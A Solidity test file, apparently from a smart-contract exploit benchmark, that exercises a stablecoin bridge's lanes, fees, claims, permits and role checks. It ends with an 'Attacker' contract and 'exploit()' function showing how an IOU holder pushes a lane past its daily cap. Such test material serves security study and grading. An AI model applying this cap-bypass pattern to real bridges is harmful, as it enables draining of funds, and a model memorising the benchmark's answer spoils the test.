// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

// assay-canary-58b232a5-6e67-4d1b-b664-e43f81d9488b

import "./StableBridge.sol";
import "./context/Messenger.sol";

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function warp(uint256 timestamp) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Stray is ERC20("Stray", "STR") {
    constructor() {
        _mint(msg.sender, 10e18);
    }
}

/// Holds the claims of one large arrival.
contract Attacker {
    function leave(StableBridge bridge, uint32 lane) external {
        bridge.sendIou(lane, address(this), bridge.iou().balanceOf(address(this)), 0);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 20_500 days;
    uint256 private constant KEY = 0xC0FFEE;
    uint32 private constant WEST = 101;
    uint32 private constant EAST = 102;
    uint128 private constant WEST_CAP = 250_000e18;
    uint128 private constant EAST_CAP = 80_000e18;
    address private constant TREASURY = address(0x7EA);
    address private constant RELAYER = address(0x4E1);
    address private constant OPERATOR = address(0x095);
    address private constant INA = address(0x14A);
    address private constant LEO = address(0x1E0);

    Messenger public hub;
    StableBridge public bridge;
    BridgedToken public usd;
    BridgedToken public iou;
    Attacker public whale;

    function setUp() public {
        vm.warp(START + 8 hours);
        hub = new Messenger();
        bridge = new StableBridge(hub, TREASURY, 400_000e18);
        usd = bridge.usd();
        iou = bridge.iou();
        hub.connect(bridge);
        hub.setRelayer(RELAYER, true);
        bridge.addLane(WEST, 40, WEST_CAP);
        bridge.addLane(EAST, 10, EAST_CAP);
        whale = new Attacker();
        arrive(WEST, 1, INA, 300_000e18);
        arrive(EAST, 1, address(whale), 900_000e18);
    }

    function arrive(uint32 lane, uint256 n, address to, uint256 amount) private {
        vm.prank(RELAYER);
        hub.deliver(lane, n, to, amount);
    }

    /// What has left over each lane on this day keeps to the cap.
    function withinDailyCaps() public view returns (bool) {
        uint256 day = block.timestamp / 1 days;
        return hub.postedOn(WEST, day) <= WEST_CAP && hub.postedOn(EAST, day) <= EAST_CAP;
    }

    function test_Regular() public {
        require(usd.balanceOf(INA) == 300_000e18 && iou.balanceOf(address(whale)) == 900_000e18, "arrived");
        require(bridge.inRoom() == 100_000e18 && bridge.inCap() == 400_000e18, "inbound");
        require(bridge.backing() == 1_200_000e18 && bridge.lanes().length == 2, "backing");
        departures();
        claims();
        tokens();
        administration();
        require(withinDailyCaps(), "within the caps");
    }

    function departures() private {
        require(bridge.quote(WEST, INA, 100_000e18) == 99_600e18, "quote");
        vm.prank(INA);
        bridge.send(WEST, LEO, 100_000e18, 99_600e18);
        (uint32 dst,, address to, uint256 amount) = hub.sent(0);
        require(dst == WEST && to == LEO && amount == 99_600e18 && hub.count() == 1, "less the fee");
        (uint256 fee, uint256 cap, uint256 room) = bridge.lane(WEST);
        require(fee == 40 && cap == WEST_CAP && room == 150_000e18 && bridge.due() == 400e18, "counted");

        bridge.setFree(INA, true);
        address[] memory who = new address[](2);
        uint256[] memory what = new uint256[](2);
        (who[0], who[1], what[0], what[1]) = (INA, LEO, 20_000e18, 10_000e18);
        vm.prank(INA);
        bridge.sendBatch(EAST, who, what);
        bridge.setFree(INA, false);
        (,,, amount) = hub.sent(2);
        (,, room) = bridge.lane(EAST);
        require(amount == 10_000e18 && room == 50_000e18 && usd.balanceOf(INA) == 170_000e18, "a batch, free");

        vm.prank(INA);
        bridge.send(EAST, LEO, 1_001e18 + 1, 0);
        require(bridge.due() == 401e18 + 1e15 + 1 && bridge.collect() == 401e18 + 1e15 + 1, "rounded up");
        require(usd.balanceOf(TREASURY) == 401e18 + 1e15 + 1 && bridge.due() == 0, "collected");
    }

    function claims() private {
        arrive(EAST, 2, LEO, 101_000e18);
        require(iou.balanceOf(LEO) == 101_000e18 && usd.balanceOf(LEO) == 0, "as claims");
        vm.prank(LEO);
        bridge.claim(LEO, 40_000e18);
        require(bridge.inRoom() == 60_000e18, "room is used");
        vm.warp(START + 1 days);
        (,, uint256 room) = bridge.lane(WEST);
        require(bridge.inRoom() == 400_000e18 && room == WEST_CAP, "a new day");
        vm.prank(LEO);
        bridge.claim(INA, 60_000e18);
        require(usd.balanceOf(LEO) == 40_000e18 && usd.balanceOf(INA) == 228_998_999_999_999_999_999_999, "claimed");
        bridge.setLane(EAST, 0, EAST_CAP);
        vm.prank(LEO);
        bridge.sendIou(EAST, LEO, 1_000e18, 1_000e18);
        require(iou.balanceOf(LEO) == 0 && hub.postedOn(EAST, block.timestamp / 1 days) == 1_000e18, "sent on");
    }

    function tokens() private {
        address kay = vm.addr(KEY);
        vm.startPrank(LEO);
        usd.transfer(kay, 10e18);
        usd.approve(INA, 5e18);
        vm.stopPrank();
        vm.prank(INA);
        usd.transferFrom(LEO, INA, 5e18);
        bytes32 t = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
        bytes32 h = keccak256(abi.encode(t, kay, INA, 4e18, 0, block.timestamp));
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(
            KEY, keccak256(abi.encodePacked("\x19\x01", usd.DOMAIN_SEPARATOR(), h))
        );
        usd.permit(kay, INA, 4e18, block.timestamp, v, r, s);
        vm.prank(INA);
        usd.transferFrom(kay, INA, 4e18);
        require(usd.balanceOf(kay) == 6e18, "moved");
        vm.startPrank(address(whale));
        iou.transfer(LEO, 2e18);
        iou.approve(LEO, 1e18);
        vm.stopPrank();
        vm.prank(LEO);
        iou.transferFrom(address(whale), LEO, 1e18);
        require(iou.balanceOf(LEO) == 3e18, "claims moved");
    }

    function administration() private {
        Stray stray = new Stray();
        stray.transfer(address(bridge), 10e18);
        bridge.sweep(stray, 10e18);
        require(stray.balanceOf(TREASURY) == 10e18, "swept");
        bridge.setTreasury(OPERATOR);
        bridge.setInCap(300_000e18);
        bridge.pause();
        arrive(WEST, 2, INA, 1e18);
        bridge.unpause();
        bridge.dropLane(WEST);
        require(bridge.lanes().length == 1 && !bridge.isLive(WEST) && bridge.isLive(EAST), "dropped");
        bridge.addLane(WEST, 100, 200_000e18);
        bridge.grantRole(bridge.OPS(), OPERATOR);
        vm.prank(OPERATOR);
        bridge.setLane(WEST, 50, 100_000e18);
        bridge.revokeRole(bridge.OPS(), OPERATOR);
        bridge.renounceRole(bridge.GUARD(), address(this));
        hub.setRelayer(RELAYER, false);
        hub.transferOwnership(OPERATOR);
        vm.prank(OPERATOR);
        hub.renounceOwnership();
        require(bridge.treasury() == OPERATOR && hub.owner() == address(0), "handed over");
    }

    function refuses(address who, bytes4 why) private {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function refusesRole(address who, bytes32 role) private {
        vm.prank(who);
        vm.expectRevert(abi.encodeWithSignature("AccessControlUnauthorizedAccount(address,bytes32)", who, role));
    }

    function test_RefusesStrangers() public {
        bytes32 ops = bridge.OPS();
        bytes32 guard = bridge.GUARD();
        refusesRole(INA, bytes32(0));
        bridge.addLane(7, 0, 1);
        refusesRole(INA, bytes32(0));
        bridge.unpause();
        refusesRole(INA, bytes32(0));
        bridge.setTreasury(INA);
        refusesRole(INA, guard);
        bridge.pause();
        refusesRole(INA, guard);
        bridge.dropLane(WEST);
        refusesRole(INA, ops);
        bridge.setLane(WEST, 0, 1);
        refusesRole(INA, ops);
        bridge.setInCap(1);
        refusesRole(INA, ops);
        bridge.setFree(INA, true);
        refusesRole(INA, ops);
        bridge.sweep(usd, 0);
        refuses(INA, StableBridge.NotHub.selector);
        bridge.arrive(WEST, INA, 1e18);
        refuses(INA, BridgedToken.NotBridge.selector);
        usd.mint(INA, 1);
        refuses(INA, BridgedToken.NotBridge.selector);
        iou.burn(address(whale), 1);
    }

    function test_RefusesDepartures() public {
        address[] memory who = new address[](1);
        uint256[] memory what = new uint256[](1);
        refuses(INA, BridgeAdmin.Zero.selector);
        bridge.send(WEST, address(0), 2e18, 0);
        refuses(INA, StableBridge.Small.selector);
        bridge.send(WEST, INA, 1e18, 0);
        refuses(INA, StableBridge.Slip.selector);
        bridge.send(WEST, INA, 1_000e18, 996e18 + 1);
        refuses(INA, Window.OverCap.selector);
        bridge.send(WEST, INA, WEST_CAP + 1, 0);
        refuses(INA, StableBridge.Length.selector);
        bridge.sendBatch(WEST, who, new uint256[](2));
        refuses(INA, StableBridge.NoLane.selector);
        bridge.send(7, INA, 2e18, 0);
        (who[0], what[0]) = (INA, 2e18);
        refuses(INA, StableBridge.NoLane.selector);
        bridge.sendBatch(7, who, what);
        refuses(address(whale), StableBridge.NoLane.selector);
        bridge.sendIou(7, INA, 2e18, 0);
        refuses(address(whale), Window.OverCap.selector);
        bridge.claim(INA, 100_000e18 + 1);
        bridge.pause();
        refuses(INA, Pausable.EnforcedPause.selector);
        bridge.send(WEST, INA, 2e18, 0);
        refuses(INA, Pausable.EnforcedPause.selector);
        bridge.sendBatch(WEST, who, what);
        refuses(address(whale), Pausable.EnforcedPause.selector);
        bridge.sendIou(WEST, INA, 2e18, 0);
        refuses(address(whale), Pausable.EnforcedPause.selector);
        bridge.claim(INA, 1e18);
    }

    function test_RefusesSettings() public {
        vm.expectRevert(StableBridge.LaneExists.selector);
        bridge.addLane(WEST, 0, 1);
        vm.expectRevert(StableBridge.HighFee.selector);
        bridge.addLane(7, 101, 1);
        vm.expectRevert(StableBridge.NoLane.selector);
        bridge.setLane(7, 0, 1);
        vm.expectRevert(StableBridge.NoLane.selector);
        bridge.dropLane(7);
        vm.expectRevert(BridgeAdmin.Zero.selector);
        bridge.setTreasury(address(0));
        vm.expectRevert(BridgeAdmin.Zero.selector);
        new StableBridge(Messenger(address(0)), TREASURY, 1);
    }

    function test_RefusesMessages() public {
        refuses(INA, Messenger.NotApp.selector);
        hub.post(WEST, INA, 1e18);
        refuses(INA, Messenger.NotRelayer.selector);
        hub.deliver(WEST, 9, INA, 1e18);
        refuses(RELAYER, Messenger.Done.selector);
        hub.deliver(WEST, 1, INA, 300_000e18);
        refuses(RELAYER, StableBridge.NoLane.selector);
        hub.deliver(7, 1, INA, 1e18);
        vm.expectRevert(Messenger.AppSet.selector);
        hub.connect(bridge);
        vm.prank(INA);
        vm.expectRevert(abi.encodeWithSignature("OwnableUnauthorizedAccount(address)", INA));
        hub.setRelayer(INA, true);
        Messenger other = new Messenger();
        vm.prank(INA);
        vm.expectRevert(abi.encodeWithSignature("OwnableUnauthorizedAccount(address)", INA));
        other.connect(bridge);
    }

    function exploit() public {
        whale.leave(bridge, WEST);
    }

    function test_Exploit() public {
        exploit();
        require(!withinDailyCaps() && bridge.due() == 0, "within the cap");
    }

    function target() public view returns (address) {
        return address(bridge);
    }

    function attacker() public view returns (address) {
        return address(whale);
    }
}
